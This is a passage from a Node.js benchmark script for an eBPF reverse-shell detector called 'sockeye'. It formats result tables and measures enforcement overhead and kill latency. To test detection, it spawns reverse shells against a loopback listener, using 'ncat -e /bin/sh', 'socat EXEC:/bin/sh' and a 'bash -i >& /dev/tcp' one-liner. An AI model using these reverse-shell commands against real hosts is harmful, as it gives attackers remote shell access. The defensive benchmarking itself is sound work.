    latency_p99_ms_idle_sched_rr: l?.idleSchedRr.p99Ms ?? null,
    idle_rss_mb: f?.rssMbMedian ?? null,
    idle_rss_mb_without_ring_mappings: f?.rssMbWithoutRingMappings ?? null,
    idle_cpu_percent: f?.cpuPercent ?? null,
    flood_detection_rate: fl?.rate ?? null,
    daemon_cpu_us_per_exec: stormAt(st, 500)?.cpuUsPerExec ?? null,
    daemon_cpu_us_per_exec_closed_loop: stormAt(st, 0)?.cpuUsPerExec ?? null,
    daemon_cpu_us_per_exec_warmup: st?.warmup.cpuUsPerExec ?? null,
    daemon_cpu_us_per_exec_elastic: stormAt(parts.storm?.sides.elastic, 500)?.cpuUsPerExec ?? null,
    workload_overhead_ratio: w?.overheadRatio ?? null,
    workload_control_ratio: w?.controlRatio ?? null,
    enforce_exec_overhead_ratio: en?.overhead.ratio ?? null,
    kill_latency_us_p50_exec: en?.kernel["exec-sh"]?.us.p50 ?? null,
    kill_latency_us_p99_exec: en?.kernel["exec-sh"]?.us.p99 ?? null,
    kill_latency_us_p50_dup: en?.kernel["dup-sh"]?.us.p50 ?? null,
    kill_latency_us_p99_dup: en?.kernel["dup-sh"]?.us.p99 ?? null,
    kill_latency_ms_p50_userspace: en?.userspace.ms?.p50 ?? null,
    kill_latency_ms_p99_userspace: en?.userspace.ms?.p99 ?? null,
    machine: facts,
    details: parts,
  };
  mkdirSync(outDir, { recursive: true });
  writeFileSync(join(outDir, "results.json"), `${JSON.stringify(json, null, 2)}\n`);
  const plots = await renderPlots(json, outDir);

  const fmt = (x) => (x === null || x === undefined ? "—" : typeof x === "number" ? x.toLocaleString("en-US") : String(x));
  const goal = (ok) => (ok === null ? "—" : ok ? "met" : "not met");
  const rows = [
    ["lossless matching events/s into TypeScript (addon, no-op handler)", json.lossless_events_per_s_ts, "≥ 1,000,000", t ? goal(json.lossless_events_per_s_ts >= 1e6) : null],
    ["lossless matching events/s, minimal C libbpf consumer", json.lossless_events_per_s_c, "", ""],
    ["lossless matching events/s, full pipeline (all rules, JSON to /dev/null)", json.lossless_events_per_s_full, "", ""],
    ["TypeScript / C lossless rate (median of per-round ratios)", json.ts_to_c_throughput_ratio, "≥ 0.5", t ? goal(json.ts_to_c_throughput_ratio >= 0.5) : null],
    ["CPU s per million events at the lossless rate: C / no-op / full",
      t ? `${fmt(t.summary.c.cpuSecondsPerMillionAtLossless)} / ${fmt(t.summary.noop.cpuSecondsPerMillionAtLossless)} / ${fmt(t.summary.full.cpuSecondsPerMillionAtLossless)}` : null, "", ""],
    ["dup2 of a non-socket: ns added per call", json.dup2_added_ns, "", ""],
    ["connect of a UDP socket to 127.0.0.1: ns added per call", json.connect_added_ns, "", ""],
    ["fork+exec of /bin/true: sensor/no-sensor time ratio", json.exec_overhead_ratio, "≤ 1.05", o ? goal(json.exec_overhead_ratio <= 1.05) : null],
    ["detection latency p50, idle (ms)", json.latency_p50_ms_idle, "", ""],
    ["detection latency p99, idle (ms)", json.latency_p99_ms_idle, "≤ 1", l ? goal(json.latency_p99_ms_idle <= 1) : null],
    [`detection latency p99 under load (ms; ${fmt(l?.load.loadRate)} matching events/s)`, json.latency_p99_ms_load, "", ""],
    ["detection latency p99, idle, daemon under SCHED_RR 1 (ms)", json.latency_p99_ms_idle_sched_rr, "", ""],
    ["idle `sockeye run`: RSS (MB, median)", json.idle_rss_mb, "≤ 60", f ? goal(json.idle_rss_mb <= 60) : null],
    ["idle `sockeye run`: RSS without the ring buffers' mappings (MB)", json.idle_rss_mb_without_ring_mappings, "", ""],
    ["idle `sockeye run`: CPU %", json.idle_cpu_percent, "", ""],
    ["reverse shells detected during an exec + decoy flood", fl ? `${fl.detected}/${fl.shells}` : null, "1.0", fl ? goal(fl.rate === 1) : null],
    ["full pipeline / C lossless rate (median of per-round ratios)", json.full_to_c_throughput_ratio, "≥ 0.8", t ? goal(json.full_to_c_throughput_ratio >= 0.8) : null],
    ["`sockeye run` CPU per exec at 500 fork+execs/s (µs, default rules, after warm-up)", json.daemon_cpu_us_per_exec, "≤ 25", st ? goal(json.daemon_cpu_us_per_exec <= 25) : null],
    ["the same, closed loop (µs; rate in the storm table)", json.daemon_cpu_us_per_exec_closed_loop, "", ""],
    ["the same, first seconds of the first storm (µs: V8 compiling the hot path, once per start)", json.daemon_cpu_us_per_exec_warmup, "", ""],
    ["the same at 500/s with Elastic's Linux rules loaded (µs)", json.daemon_cpu_us_per_exec_elastic, "", ""],
    ["exec-heavy workload (make -j2 + configure script): wall time with/without the daemon", json.workload_overhead_ratio, "≤ 1.03",
      w ? (json.workload_overhead_ratio <= 1.03 ? "met" : json.workload_overhead_ratio <= w.controlRatioRange[1] ? "within the control's spread" : "not met") : null],
    ["the same, control: a second run without the daemon / without (median; range)", w ? `${fmt(w.controlRatio)} (${fmt(w.controlRatioRange[0])}–${fmt(w.controlRatioRange[1])})` : null, "", ""],
    ["fork+exec of /bin/true with enforcement on: sensor + enforcing programs / no sensor", en?.overhead.skipped ? `skipped: ${en.overhead.skipped}` : json.enforce_exec_overhead_ratio, "≤ 1.05",
      en && !en.overhead.skipped ? goal(json.enforce_exec_overhead_ratio <= 1.05) : null],
    ["in-kernel kill latency, exec of sh on a socket: p50 / p99 (µs, pre-exec stamp to reaped)",
      en?.kernel.skipped ? `skipped: ${en.kernel.skipped}` : en ? `${fmt(json.kill_latency_us_p50_exec)} / ${fmt(json.kill_latency_us_p99_exec)}` : null, "", ""],
    ["in-kernel kill latency, the dup2 completing the shape in `sh`: p50 / p99 (µs, pre-dup stamp to reaped)",
      en?.kernel.skipped ? `skipped: ${en.kernel.skipped}` : en ? `${fmt(json.kill_latency_us_p50_dup)} / ${fmt(json.kill_latency_us_p99_dup)}` : null, "", ""],
    ["userspace kill latency, relay shells: p50 / p99 (ms, event to kill)",
      en?.userspace.skipped ? `skipped: ${en.userspace.skipped}` : en ? `${fmt(json.kill_latency_ms_p50_userspace)} / ${fmt(json.kill_latency_ms_p99_userspace)}` : null, "", ""],
  ];
  let md = `# sockeye benchmark results\n\n${quick ? "Quick mode (short steps, one round): indicative only.\n\n" : ""}`;
  md += "| measure | value | goal | |\n|---|---|---|---|\n";
  for (const [name, v, g, ok] of rows) md += `| ${name} | ${fmt(v)} | ${g} | ${ok ?? ""} |\n`;
  md += "\n## Plots\n";
  for (const p of plots) md += p.skipped ? `\n${p.title}: not drawn, ${p.skipped}.\n` : `\n![${p.title}](${p.file})\n\n${p.caption}\n`;
  if (t) {
    md += "\n## Throughput steps\n\nrate = what the generator achieved; lost = kernel reserve failures; missing = generated − received.\n\n";
    md += "| round | consumer | target/s | achieved/s | lost | missing | CPU s / M events | machine busy |\n|---|---|---|---|---|---|---|---|\n";
    for (const s of t.steps) md += `| ${s.round} | ${s.consumer} | ${s.closedLoop ? "closed loop" : fmt(s.targetRate)} | ${fmt(s.achievedRate)} | ${fmt(s.kernelLost)} | ${fmt(s.missing)} | ${fmt(s.cpuSecondsPerMillion)} | ${fmt(s.machineBusyShare)} |\n`;
  }
  if (o) {
    md += "\n## Overhead per call (medians of interleaved rounds)\n\n| call | no sensor (ns) | sensor (ns) | added (ns) | ratio |\n|---|---|---|---|---|\n";
    for (const [k, v] of Object.entries(o)) md += `| ${k} | ${fmt(v.offNs)} | ${fmt(v.onNs)} | ${fmt(v.addedNs)} | ${fmt(v.ratio)} |\n`;
    md += "\nThe same calls split by layer (ratio to no sensor): attached = programs live, nobody reads; c = plus a minimal C reader; noop = the addon and decoder instead; full = plus rules, process table, output.\n\n";
    md += `| call | ${OVERHEAD_SIDES.slice(1).join(" | ")} |\n|---|${OVERHEAD_SIDES.slice(1).map(() => "---").join("|")}|\n`;
    for (const [k, v] of Object.entries(o)) md += `| ${k} | ${OVERHEAD_SIDES.slice(1).map((s) => `${fmt(v.sides[s].ratio)} (+${fmt(v.sides[s].addedNs)} ns)`).join(" | ")} |\n`;
  }
  if (l) {
    md += "\n## Idle detection latency, by stage (ms from the syscall's BPF timestamp)\n\n| stage | p50 | p99 | max |\n|---|---|---|---|\n";
    const b = l.idleBreakdown;
    for (const [name, v] of [["a minimal C reader holds the record", b.cReaderHolds], ["full pipeline: the decoded batch reaches the subscriber", b.subscriberReceives], ["full pipeline: the finding's JSON line is written", b.findingWritten],
      ["the same, the full pipeline under SCHED_RR 1 (`chrt --rr 1`)", l.idleSchedRr]])
      md += `| ${name} | ${fmt(v.p50Ms)} | ${fmt(v.p99Ms)} | ${fmt(v.maxMs)} |\n`;
  }
  if (parts.storm) {
    md += "\n## Process storms: `sockeye run`'s CPU per exec\n\nfork+exec+exit of /bin/true at each rate (`sockeye-loadgen execs RATE S`), the daemon's CPU from /proc/PID/task/*/schedstat split into its threads (main = event loop, reader = sockeye-reader, other = V8's GC/compiler helpers and libuv's pool); medians of rounds; machine busy = share of all CPUs busy during the window.\n\n";
    md += "| rules | rate/s | achieved/s | µs per exec | main | reader | other | machine busy |\n|---|---|---|---|---|---|---|---|\n";
    for (const [name, side] of Object.entries(parts.storm.sides)) {
      for (const x of side.rates) md += `| ${name} | ${x.closedLoop ? "closed loop" : fmt(x.target)}${x.reachable ? "" : " (not reachable here)"} | ${fmt(x.achieved)} | ${fmt(x.cpuUsPerExec)} | ${fmt(x.threads.main)} | ${fmt(x.threads.reader)} | ${fmt(x.threads.other)} | ${fmt(x.machineBusyShare)} |\n`;
      md += `| ${name} | warm-up (first ${P.stormWarmS} s at 500/s) | ${fmt(side.warmup.achieved)} | ${fmt(side.warmup.cpuUsPerExec)} | ${fmt(side.warmup.threads.main)} | ${fmt(side.warmup.threads.reader)} | ${fmt(side.warmup.threads.other)} | ${fmt(side.warmup.machineBusyShare)} |\n`;
      md += `| ${name} | idle | — | ${fmt(side.idleCpuMsPerS)} ms CPU per s | | | | |\n`;
    }
    if (parts.storm.skippedElastic) md += `\nElastic side skipped: ${parts.storm.skippedElastic}.\n`;
    const inProcess = parts.storm.elasticInProcess;
    if (inProcess) {
      md += `\n## Elastic's rules in-process: where their CPU goes\n\n${inProcess.rules} rules; \`node bench/elastic-rules.mjs\`: ${fmt(inProcess.execs)} fork+exec+exit through the engine after as many of warm-up, no kernel and no /proc (fields read from /proc cost more in the daemon). Two streams: the storm's \`/bin/true\` and a mixed one (shells, interpreters, curl, git, sshd, sudo, cat).\n\n`;
      md += "| stream | engine without Elastic rules (µs/exec) | with them (µs/exec) | the rules' own (µs/exec) |\n|---|---|---|---|\n";
      for (const [name, st] of Object.entries(inProcess.streams)) md += `| ${name} | ${fmt(round(st.engineUsPerExec, 2))} | ${fmt(round(st.withElasticUsPerExec, 2))} | ${fmt(round(st.elasticUsPerExec, 2))} |\n`;
      for (const [name, st] of Object.entries(inProcess.streams)) {
        md += `\nCostliest rules, ${name} stream (each rule's evaluate, timed around it: µs per exec; the first rule to build an event's document pays for it):\n\n| rule | µs/exec |\n|---|---|\n`;
        for (const r of st.perRule.slice(0, 15)) md += `| ${r.name} | ${fmt(round(r.usPerExec, 3))} |\n`;
      }
    }
  }
  if (w) {
    md += `\n## Exec-heavy workload\n\n${w.files} C files built with \`make -j2\` (clean first) and a configure-style script of ${w.configureChecks} checks; ${fmt(w.processesPerRun)} processes per run; ${w.rounds} rounds of three sides in rotated order (no daemon, the daemon, a second run without: the control).\n\n`;
    md += `| side | median s |\n|---|---|\n| no daemon | ${fmt(w.secondsMedian.off)} |\n| daemon | ${fmt(w.secondsMedian.on)} |\n| control (no daemon) | ${fmt(w.secondsMedian.control)} |\n`;
    md += `\nPer-round ratio daemon/no daemon: ${w.overheadRatioPerRound.join(", ")}; control/no daemon ranged ${w.controlRatioRange.join("–")}. The daemon's CPU per process of the workload: ${fmt(w.daemonCpuUsPerProcess)} µs.\n`;
  }
  if (en) {
    md += "\n## Enforcement\n\n";
    const oh = en.overhead;
    md += oh.skipped ? `fork+exec: skipped: ${oh.skipped}.\n` : `fork+exec+wait of /bin/true, medians of ${oh.rounds} rotated rounds of ${fmt(oh.execsPerRound)}: no sensor ${fmt(oh.offNs)} ns, the sensor ${fmt(oh.sensorNs)} ns (${fmt(oh.sensorRatio)}), the sensor with the enforcing programs ${fmt(oh.enforceNs)} ns (${fmt(oh.ratio)}; ${fmt(oh.enforceToSensorRatio)} of the sensor alone).\n`;
    if (en.kernel.skipped) md += `\nIn-kernel kill latency: skipped: ${en.kernel.skipped}.\n`;
    else {
      md += "\nIn-kernel kill latency (`sockeye-loadgen kill-probe`): from a CLOCK_MONOTONIC stamp just before the act to the parent's waitpid returning, so each figure includes the exit of the killed process and the parent's wakeup; the references run the same child without being stopped. Denied = execve returned EPERM (BPF LSM; the figure is then the execve call).\n\n";
      md += "| child | killed | denied | exited | not stopped | failed | p50 µs | p99 µs | max µs |\n|---|---|---|---|---|---|---|---|---|\n";
      const label = { "exec-sh": "execve /bin/sh, socket on 0 and 1", "exec-true": "reference: execve /bin/true, same fds, runs to exit", "dup-sh": "comm sh, the dup2 onto fd 1 completing the shape", "dup-exit": "reference: the same dup2 without comm sh, then _exit" };
      for (const [k, v] of Object.entries(en.kernel)) md += `| ${label[/** @type {keyof typeof label} */ (k)] ?? k} | ${v.killed} | ${v.denied} | ${v.exited} | ${v.notStopped} | ${v.failed} | ${fmt(v.us.p50)} | ${fmt(v.us.p99)} | ${fmt(v.us.max)} |\n`;
      md += `\nThe kernel programs' own counts over the probes: \`${JSON.stringify(en.kernelActions)}\`.\n`;
    }
    const u = en.userspace;
    md += u.skipped ? `\nUserspace kill latency: skipped: ${u.skipped}.\n`
      : `\nUserspace kill latency: ${u.shells} × \`${u.relay}\` beside \`sockeye run --enforce\`; ${u.connected} connected; bytes leaked (received in the 2 s after \`id\`) per shell: ${u.leakedBytes.join(", ") || "none"}; ${u.killsWithLatency} userspace kills with a latency: p50 ${fmt(u.ms.p50)}, p99 ${fmt(u.ms.p99)}, max ${fmt(u.ms.max)} ms (the daemon's \`stopped\` line: \`${JSON.stringify(u.stoppedLine)}\`).\n`;
  }
  if (fl) md += `\n## Flood\n\n${fmt(fl.flood.execs)} execs with ~6 KiB of argv and ${fmt(fl.flood.decoy_rounds)} decoy rounds (a matching socket dup, a pipe dup, a connect on fd > 2) in ${fl.flood.seconds} s; kernel counters of the daemon at its end: \`${JSON.stringify(fl.kernelCounters)}\`.\n`;
  md += `\n## Commands\n\n${commands.map((c) => `- \`${c}\``).join("\n")}\n`;
  md += `\n## Machine\n\n${Object.entries(facts).map(([k, v]) => `- ${k}: ${Array.isArray(v) ? v.join(", ") : v}`).join("\n")}\n`;
  writeFileSync(join(outDir, "results.md"), md);
}

// ---- 8. enforcement: fork+exec with it on, and kill latency ---------------------------------

/** A loopback listener that holds each connection until its peer closes (the kill probes' far end). */
async function holdingListener() {
  const server = net.createServer((s) => { s.on("error", () => {}); s.on("end", () => s.destroy()); s.on("close", () => s.destroy()); });
  await /** @type {Promise<void>} */ (new Promise((r) => server.listen(0, "127.0.0.1", r)));
  return { port: /** @type {net.AddressInfo} */ (server.address()).port, close: () => server.close() };
}

/**
 * A loopback listener as the kernel tier's: it sends `id` to each connection and counts the
 * bytes that come back in the next 2 s (bytes leaked), then closes it.
 */
async function idListener() {
  /** @type {number[]} */
  const leaked = [];
  const server = net.createServer((s) => {
    let bytes = 0;
    s.on("error", () => {});
    s.on("data", (d) => (bytes += d.length));
    s.write("id\n");
    setTimeout(() => { leaked.push(bytes); s.destroy(); }, 2000);
  });
  await /** @type {Promise<void>} */ (new Promise((r) => server.listen(0, "127.0.0.1", r)));
  return { port: /** @type {net.AddressInfo} */ (server.address()).port, leaked, close: () => server.close() };
}

/** p50/p99/max and the 0th-100th percentiles (for bench/plots.mjs) of a list, in its unit. */
function killSummary(xs, d = 1) {
  if (xs.length === 0) return { samples: 0, p50: null, p99: null, max: null, cdf: [] };
  return { samples: xs.length, p50: round(quantile(xs, 0.5), d), p99: round(quantile(xs, 0.99), d), max: round(Math.max(...xs), d),
    cdf: [...Array(101).keys()].map((i) => round(quantile(xs, i / 100), d)) };
}

/**
 * The first of these relay programs installed, with its command for a port, or why none is.
 * @returns {string | { label: string; cmd: (port: number) => [string, string[]] }}
 */
function relayCommand() {
  const ncat = sh("command -v ncat"), socat = sh("command -v socat");
  if (ncat) return { label: "ncat -e /bin/sh (pipes)", cmd: (p) => [ncat, ["127.0.0.1", String(p), "-e", "/bin/sh"]] };
  if (socat) return { label: "socat EXEC:/bin/sh (socketpair)", cmd: (p) => [socat, [`TCP:127.0.0.1:${p}`, "EXEC:/bin/sh"]] };
  return "neither ncat nor socat is installed (scripts/setup.sh --dev installs them)";
}

async function enforce() {
  const dist = (/** @type {string} */ f) => import(pathToFileURL(join(ROOT, "dist", f)).href);
  const { openSensorSync } = await dist("index.js");
  const { findKernelInterpreters } = await dist("enforce/interpreters.js");
  const found = findKernelInterpreters();
  const sides = { off: null, sensor: {}, enforce: { enforce: true, enforceNames: found.names, enforceExes: found.exes } };
  /** @type {any} */
  const out = {};

  // 1. fork+exec+wait of /bin/true (sockeye-loadgen overhead exec, as the overhead part): no
  //    sensor, the sensor alone, the sensor with the enforcing programs, each opened in this
  //    process with a handler that only counts; rotated and reversed between rounds.
  /** @type {Record<string, number[]>} */
  const ns = { off: [], sensor: [], enforce: [] };
  try {
    for (let r = 0; r < P.enforceRounds; r++) {
      const names = Object.keys(sides);
      const rotated = [...names.slice(r % 3), ...names.slice(0, r % 3)];
      for (const side of r % 2 ? rotated.reverse() : rotated) {
        const options = sides[/** @type {keyof typeof sides} */ (side)];
        const sensor = options ? openSensorSync(options) : null;
        sensor?.subscribe(() => {});
        try {
          ns[side].push((await loadgen("overhead", "exec", P.enforceExecs)).ns_per_call);
        } finally {
          await sensor?.close();
        }
      }
      log(`enforce overhead round ${r}: ${JSON.stringify(Object.fromEntries(Object.entries(ns).map(([k, v]) => [k, v.at(-1)])))}`);
    }
    const off = median(ns.off);
    out.overhead = { execsPerRound: P.enforceExecs, rounds: P.enforceRounds, offNs: round(median(ns.off), 1), sensorNs: round(median(ns.sensor), 1),
      enforceNs: round(median(ns.enforce), 1), ratio: round(median(ns.enforce) / off), sensorRatio: round(median(ns.sensor) / off),
      enforceToSensorRatio: round(median(ns.enforce) / median(ns.sensor)), samples: ns };
  } catch (e) {
    out.overhead = { skipped: `the sensor or its enforcing programs did not open: ${e instanceof Error ? e.message : String(e)}` };
  }

  // 2. In-kernel kill latency: sockeye-loadgen kill-probe beside the enforcing sensor.
  if (!out.overhead.skipped) {
    const listener = await holdingListener();
    const sensor = openSensorSync(sides.enforce);
    sensor.subscribe(() => {});
    const before = sensor.enforceActions();
    let probe;
    try {
      probe = await loadgen("kill-probe", P.killProbes, listener.port);
    } finally {
      const after = sensor.enforceActions();
      await sensor.close();
      listener.close();
      out.kernelActions = Object.fromEntries(Object.entries(after).map(([k, v]) => [k, v - (before[k] ?? 0)]));
    }
    out.kernel = Object.fromEntries(Object.entries(probe).map(([kind, r]) => [kind, {
      killed: r.killed, denied: r.denied, exited: r.exited, notStopped: r.survived, failed: r.failed, us: killSummary(r.us) }]));
    log(`enforce kill probes: ${JSON.stringify(Object.fromEntries(Object.entries(out.kernel).map(([k, v]) => [k, [v.killed + v.denied + v.exited, v.us.p50, v.us.p99]])))}`);
  } else {
    out.kernel = { skipped: out.overhead.skipped };
  }

  // 3. Userspace kill latency: relay shells only userspace stops, beside `sockeye run --enforce`
  //    (a budget no run of this part reaches: the default of 10 kills per uid would trip).
  const relay = relayCommand();
  if (typeof relay === "string") {
    out.userspace = { skipped: relay };
  } else {
    const dir = mkdtempSync(join(tmpdir(), "sockeye-bench-enforce-"));
    const config = join(dir, "sockeye.toml");
    writeFileSync(config, '[enforce]\nmode = "on"\nbudget = { kills_per_uid = 10000, window_s = 60 }\n');
    const listener = await idListener();
    const d = startDaemon("pipe", ["--config", config, "--enforce"]);
    let findingsText = "";
    /** @type {import("node:stream").Readable} */ (d.child.stdout).on("data", (b) => (findingsText += b));
    try {
      await d.ready;
      /** @type {import("node:child_process").ChildProcess[]} */
      const shells = [];
      for (let i = 0; i < P.relayShells; i++) {
        const [cmd, args] = relay.cmd(listener.port);
        const child = spawn(cmd, args, { stdio: "ignore", detached: true });
        child.on("error", () => {});
        shells.push(child);
        await sleep(300);
      }
      await sleep(3000); // the last shell's 2 s window, and the daemon's last findings
      for (const c of shells) { try { process.kill(-(c.pid ?? 0), "SIGKILL"); } catch { /* gone: killed */ } }
      await d.stop();
      const latencies = [];
      for (const line of findingsText.split("\n")) {
        if (!line) continue;
        const f = JSON.parse(line);
        const e = f.sockeye?.enforcement;
        if (f.destination?.port === listener.port && e?.action === "killed" && e.where === "userspace" && Number.isFinite(e.latency_ms)) latencies.push(e.latency_ms);
      }
      const stopped = d.stoppedLine()?.enforcement;
      out.userspace = { relay: relay.label, shells: P.relayShells, connected: listener.leaked.length, leakedBytes: listener.leaked,
        leakedBytesMax: listener.leaked.length ? Math.max(...listener.leaked) : null, killsWithLatency: latencies.length,
        ms: killSummary(latencies, 2), stoppedLine: stopped ? { killed: stopped.killed, latencyMs: stopped.latencyMs } : null };
      log(`enforce userspace: ${relay.label} × ${P.relayShells}: leaked ${listener.leaked.join(",")} bytes, kill latency p50 ${out.userspace.ms.p50} p99 ${out.userspace.ms.p99} ms`);
    } catch (e) {
      await d.stop();
      out.userspace = { skipped: `sockeye run --enforce did not run: ${e instanceof Error ? e.message : String(e)}` };
    } finally {
      listener.close();
      rmSync(dir, { recursive: true, force: true });
    }
  }
  return out;
}

// ---- main -------------------------------------------------------------------------------

if (process.getuid?.() !== 0) fail("run as root: the benchmarks load sockeye's eBPF programs");
if (!existsSync(CLI) || !existsSync(join(ROOT, "build", "gen", "sockeye.skel.h")))
  fail("sockeye is not built: run 'npm install' (or 'npm run build') first");
try {
  execFileSync("make", ["-s", "-C", BENCH], { stdio: ["ignore", "ignore", "inherit"] });
} catch {
  fail("building the C programs failed (make -C bench): see above");
}

const facts = machineFacts();
const parts = {};
const commands = [
  `npm run bench${quick ? " -- --quick" : ""}`,
  "make -C bench (run by the script: build/bench/sockeye-loadgen, build/bench/sockeye-c-consumer)",
  "consumers: build/bench/sockeye-c-consumer | node bench/ts-consumer.mjs noop | node bench/ts-consumer.mjs full",
  `throughput: sockeye-loadgen dups RATE ${P.stepS} (RATE 0 = closed loop, then ${LADDER.join(", ")} up to 1.1 × the closed-loop rate)`,
  `overhead: sockeye-loadgen overhead dup2-nonsock ${P.dupCalls} | connect-udp ${P.connectCalls} | exec ${P.execCalls}, on each side (no sensor, sockeye-c-consumer attach-only, sockeye-c-consumer, ts-consumer.mjs noop, ts-consumer.mjs full), ${P.ohRounds} interleaved rounds (exec: ${P.execRounds})`,
  `latency: sockeye-loadgen probe ${P.probes} 2000 against sockeye-c-consumer idle, then ts-consumer.mjs full, idle, then beside sockeye-loadgen dups RATE, then chrt --rr 1 ts-consumer.mjs full, idle`,
  `footprint: node dist/cli/main.js run, sampled ${P.footprintS} s after it is ready`,
  `flood: sockeye-loadgen flood ${P.floodS} beside node dist/cli/main.js run, ${P.shells} × bash -c 'bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1'`,
  `storm: node dist/cli/main.js run [--rules ELASTIC --lenient-rules]; idle ${P.stormS} s, warm-up sockeye-loadgen execs 500 ${P.stormWarmS}, then ${P.stormRounds} rounds of sockeye-loadgen execs RATE ${P.stormS} for RATE in ${STORM_RATES.join(", ")} (0 = closed loop; Elastic side: ${STORM_RATES_ELASTIC.join(", ")})${elasticRules ? `, Elastic rules from ${elasticRules}` : ""}`,
  `enforce: sockeye-loadgen overhead exec ${P.enforceExecs} with no sensor, the sensor, the sensor with the enforcing programs (opened in the bench's process), ${P.enforceRounds} rotated rounds; sockeye-loadgen kill-probe ${P.killProbes} PORT beside the enforcing sensor; node dist/cli/main.js run --config (budget 10,000) --enforce beside ${P.relayShells} relay shells (ncat -e /bin/sh, else socat EXEC:/bin/sh) against a listener that sends id`,
  `workload: ${P.workloadRounds} rounds × (no daemon, node dist/cli/main.js run warmed by sockeye-loadgen execs 1000 ${quick ? 2 : 5}, no daemon again) of make -j2 over ${P.workloadFiles} generated C files + a ${P.workloadChecks}-check configure script`,
];
if (wanted("throughput")) parts.throughput = await throughput();
if (wanted("overhead")) parts.overhead = await overhead();
if (wanted("latency")) parts.latency = await latency(Math.max(10_000, Math.min(100_000, (parts.throughput?.summary.full.lossless ?? 100_000) / 2)));
if (wanted("footprint")) parts.footprint = await footprint();
if (wanted("flood")) parts.flood = await flood();
if (wanted("storm")) parts.storm = await storm();
if (wanted("workload")) parts.workload = await workload();
if (wanted("enforce")) parts.enforce = await enforce();
facts.loadavgAtEnd = loadavg().map((x) => round(x, 2));
await writeResults(facts, parts, commands);
log(`wrote ${join(outDir, "results.md")} and results.json`);
process.exit(0);
